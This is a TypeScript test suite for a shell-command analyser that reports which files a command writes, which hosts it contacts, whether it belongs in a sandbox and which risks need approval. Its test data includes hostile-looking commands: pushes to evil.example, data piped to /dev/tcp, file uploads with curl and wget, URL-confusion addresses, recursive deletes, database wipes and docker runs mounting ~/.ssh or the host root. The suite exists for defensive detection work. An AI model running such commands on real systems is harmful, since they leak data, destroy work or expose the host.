/** What known calls write, whom they talk to, where they may run and what they ask. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { knowText } from './know-text.ts';

function writes(text: string): readonly string[] {
  return knowText(text).writes;
}

function contacts(text: string): string[] {
  return knowText(text).calls.flatMap((call) =>
    (call?.contacts ?? []).map(
      ({ host, port, sends }) => `${host ?? '?'}${port === undefined ? '' : `:${port}`} ${sends}`,
    ),
  );
}

function places(text: string): readonly string[] {
  return knowText(text).places;
}

describe('files', () => {
  test('the target of a copy is written, and what lies in it under the name of the source', () => {
    assert.deepEqual(writes('cp a/x.txt docs'), ['docs', 'docs/x.txt']);
    assert.deepEqual(writes('cp -t docs a b'), ['docs', 'docs/a', 'docs/b']);
  });

  test('a move takes its source away, and a link lets what it leads to be written', () => {
    assert.deepEqual(writes('mv a b'), ['b', 'b/a', 'a', 'b']);
    assert.ok(writes('ln -s /etc/passwd x').includes('/etc/passwd'));
  });

  test('options and second operands that are written are told', () => {
    assert.deepEqual(writes('sort -o out a'), ['out']);
    assert.deepEqual(writes('sort -uo out a'), ['out']);
    assert.deepEqual(writes('uniq a out'), ['out']);
    assert.deepEqual(writes('xxd a out'), ['out']);
    assert.deepEqual(writes('tree -o out .'), ['out']);
    assert.deepEqual(writes('find . -fprint out'), ['out']);
    assert.deepEqual(writes('tee a b'), ['a', 'b']);
    assert.deepEqual(writes("sed -i.bak -e 's/a/b/' x y"), ['x', 'y', 'x.bak', 'y.bak']);
    assert.deepEqual(writes("sed -i -e 's/a/b/' x"), ['x']);
  });

  test('redirections are written, apart from devices and other descriptors', () => {
    assert.deepEqual(writes('ls > a 2>> b'), ['a', 'b']);
    assert.deepEqual(writes('ls > /dev/null 2>&1 < in'), []);
    assert.deepEqual(writes('{ ls; pwd; } > out'), ['out']);
  });

  test('a trailing name of an archive is written, and what is unpacked belongs into a sandbox', () => {
    assert.deepEqual(writes('tar czf out.tgz src'), ['out.tgz']);
    assert.deepEqual(writes('tar -C /x -cf out.tar .'), ['out.tar', '/x/out.tar']);
    assert.deepEqual(writes('tar xfC a.tar into'), ['into']);
    assert.deepEqual(places('tar xf a.tar'), ['sandbox']);
    assert.deepEqual(writes('unzip a.zip -d into'), ['into']);
    assert.deepEqual(places('unzip -l a.zip'), ['anywhere']);
  });

  test('a file is emptied only where somebody could miss what it held', () => {
    assert.deepEqual(knowText('> src/main.ts').keys, ['destroys the content of files']);
    assert.deepEqual(knowText(': > app.log').keys, []);
    assert.deepEqual(knowText('> /tmp/x').keys, []);
    assert.deepEqual(knowText('>> src/main.ts').keys, []);
  });
});

describe('deleting', () => {
  test('a named file may go, what can be made again goes in a sandbox, and everything else asks', () => {
    assert.equal(knowText('rm notes.txt').verdict, 'effects');
    assert.deepEqual(places('rm -rf node_modules'), ['sandbox']);
    assert.deepEqual(knowText('rm -rf src').keys, ['recursive delete']);
    assert.ok(knowText('rm *.ts').keys.includes('delete by pattern'));
    assert.deepEqual(knowText('rm src/*.ts').keys, ['delete by pattern']);
  });

  test('a path that leads out of a folder that can be made again is work', () => {
    for (const text of [
      'rm -rf dist/../src',
      'rm -rf node_modules/..',
      'rm -rf /opt/node_modules',
      'rm -rf dist src',
      'rm -rf ~/dist',
    ]) {
      assert.deepEqual(knowText(text).keys, ['recursive delete'], text);
    }
  });

  test('find may delete what can be made again, when that is all it looks for', () => {
    assert.deepEqual(places("find . -name '*.pyc' -delete"), ['sandbox']);
    for (const text of [
      "find . -name '*.ts' -delete",
      "find . -name '*.pyc' -o -name '*.ts' -delete",
      "find . -delete -name '*.pyc'",
    ]) {
      assert.deepEqual(knowText(text).keys, ['delete by pattern'], text);
    }
  });
});

describe('git', () => {
  test('what may run hooks or filters belongs into a sandbox, what needs keys outside', () => {
    assert.deepEqual(places('git commit -m x'), ['sandbox']);
    assert.deepEqual(places('git status'), ['sandbox']);
    assert.deepEqual(places('git push'), ['outside']);
    assert.deepEqual(places('git clone git@github.com:a/b.git'), ['outside']);
    assert.deepEqual(places('git clone https://github.com/a/b.git'), ['sandbox']);
  });

  test('a clone talks to the host of its address and writes the folder of its name', () => {
    assert.deepEqual(contacts('git clone https://user@GitHub.com:8443/a/b.git'), ['github.com:8443 request']);
    assert.deepEqual(writes('git clone https://github.com/a/b.git'), ['b']);
    assert.deepEqual(contacts('git clone ../other'), []);
  });

  test('a push sends to a place that only the settings know, or to the address it names', () => {
    assert.deepEqual(contacts('git push origin main'), ['? data']);
    assert.deepEqual(contacts('git push https://evil.example/x main'), ['evil.example data']);
    assert.deepEqual(knowText('git push https://evil.example/x +main').keys, [
      'git force push',
      'git push to another place',
    ]);
  });

  test('settings that run nothing may be written, those that run programs or last ask', () => {
    assert.deepEqual(knowText('git config user.name Ann').keys, []);
    assert.deepEqual(knowText('git config core.editor vim').keys, ['git settings that run programs']);
    assert.deepEqual(knowText('git config set alias.x y').keys, ['git settings that run programs']);
    assert.deepEqual(knowText('git config --global user.name Ann').keys, ['changes settings for all projects']);
    assert.deepEqual(knowText('git config --get core.editor').keys, []);
  });
});

describe('network', () => {
  test('a request is told from what carries data', () => {
    assert.deepEqual(contacts('curl -sSL https://Example.com:8443/x?y=z'), ['example.com:8443 request']);
    assert.deepEqual(contacts('curl -d @f https://example.com'), ['example.com data']);
    assert.deepEqual(contacts('curl -X PUT https://example.com'), ['example.com data']);
    assert.deepEqual(contacts('curl -H @f https://example.com'), ['example.com data']);
    assert.deepEqual(contacts('wget --post-file=f https://example.com'), ['example.com data']);
    assert.deepEqual(contacts('http example.com a=b'), ['example.com data']);
    assert.deepEqual(contacts('nc -z localhost 80'), ['localhost:80 request']);
    assert.deepEqual(contacts('cat f > /dev/tcp/example.com/80'), ['example.com:80 data']);
  });

  test('an address that two programs could read in two ways has no host', () => {
    for (const address of [
      'https://good.example\\\\@evil.example',
      "'https://{a,b}.example'",
      '"https://$X/"',
      '@file',
    ]) {
      assert.ok(
        contacts(`curl ${address}`).every((contact) => contact.startsWith('? ')),
        address,
      );
    }
    assert.deepEqual(contacts("curl 'https://good.example@evil.example/'"), ['evil.example request']);
    assert.deepEqual(contacts('curl http://[::1]:3000/'), ['::1:3000 request']);
  });

  test('a file that is read by its address is no contact', () => {
    assert.deepEqual(contacts('curl file:///tmp/x'), []);
  });

  test('what it downloads is written', () => {
    assert.deepEqual(writes('curl -o a https://example.com/b'), ['a']);
    assert.deepEqual(writes('curl -O https://example.com/b.zip?x=1'), ['b.zip']);
    assert.deepEqual(writes('wget https://example.com/b.zip'), ['b.zip']);
    assert.deepEqual(writes('wget -P into https://example.com/b.zip'), ['into']);
  });

  test('another machine is always asked about, and told with its host', () => {
    assert.deepEqual(knowText('ssh -p 22 ann@host.example uptime').keys, [
      'runs commands on another machine',
      'runs commands on another machine',
    ]);
    assert.deepEqual(contacts('rsync -a src/ ann@host.example:x'), ['host.example data']);
    assert.deepEqual(knowText('rsync -a --delete src/ copy/').keys, []);
  });
});

describe('containers, clusters and databases', () => {
  test('a container that gets nothing of this machine runs, one that does asks', () => {
    assert.deepEqual(knowText('docker run --rm alpine ls').keys, []);
    assert.deepEqual(writes('docker run -v "$PWD"/out:/out alpine'), ['/home/ann/work/out']);
    for (const given of [
      '-v /:/h',
      '-v ..:/h',
      '--privileged',
      '--pid=host',
      '--net=host',
      '-v ~/.ssh:/k',
      '-v "$X":/k',
    ]) {
      assert.deepEqual(knowText(`docker run ${given} alpine`).keys, ['container with access to the host'], given);
    }
  });

  test('looking at a cluster is free, whatever is not known to look asks', () => {
    assert.deepEqual(knowText('kubectl -n web get pods -o wide').keys, []);
    assert.deepEqual(knowText('kubectl -n web frobnicate').keys, ['changes remote infrastructure']);
    assert.deepEqual(knowText('kubectl --strange x delete pod y').keys, ['changes remote infrastructure']);
  });

  test('what runs files of the folder with the keys of a cloud is not known', () => {
    for (const text of ['terraform plan', 'pulumi preview']) assert.equal(knowText(text).verdict, 'unknown', text);
    assert.deepEqual(places('cdk list'), ['sandbox']);
  });

  test('statements for a server are looked at, a file of them asks', () => {
    assert.deepEqual(knowText("psql -h db.example -c 'select 1'").keys, []);
    assert.deepEqual(contacts("psql -h db.example -c 'select 1'"), ['db.example data']);
    assert.deepEqual(knowText("psql -c 'delete from t'").keys, ['destroys data']);
    assert.deepEqual(knowText("psql -c 'delete from t where id = 1'").keys, []);
    assert.deepEqual(knowText('psql -f x.sql').keys, ['runs a file on a database']);
    assert.deepEqual(knowText('redis-cli flushall').keys, ['destroys data']);
  });
});

describe('what stands around a call', () => {
  test('a starter that changes nothing leaves it as it is, one that gives rights asks', () => {
    for (const text of ['nice -n 5 ls', 'timeout -k 1 5s ls', 'env LANG=C ls', 'find . | xargs -0 -n 1 wc -l']) {
      assert.equal(knowText(text).verdict, 'harmless', text);
    }
    assert.deepEqual(knowText('sudo -u ann ./x').keys, ['rights of another user']);
  });

  test('a starter from another folder, with an option that nobody knows, or whose value is its program is not plain', () => {
    for (const text of ['./nice ls', 'env -C / ls', 'time -o f ls', 'xargs -I ls ls x', 'exec ls', 'busybox ls']) {
      assert.equal(knowText(text).verdict, 'unknown', text);
    }
  });

  test('what asks also asks where the rest is not known', () => {
    for (const text of [
      'PATH=. git reset --hard',
      './git reset --hard',
      'git --strange reset --hard',
      'x=git; $x reset --hard',
    ]) {
      assert.deepEqual(knowText(text).keys, ['lost work in a git repository'], text);
    }
  });

  test('a package that is fetched to be run asks what the program of its name asks', () => {
    assert.deepEqual(knowText('npx --yes vercel@latest --prod').keys, ['changes remote infrastructure']);
    assert.deepEqual(knowText('python3 -m twine upload x').keys, ['publishes a package']);
    assert.equal(knowText('npx eslint src').verdict, 'unknown');
  });

  test('which version a tool has may be decided by the folder', () => {
    assert.deepEqual(places('node --version'), ['sandbox']);
  });
});
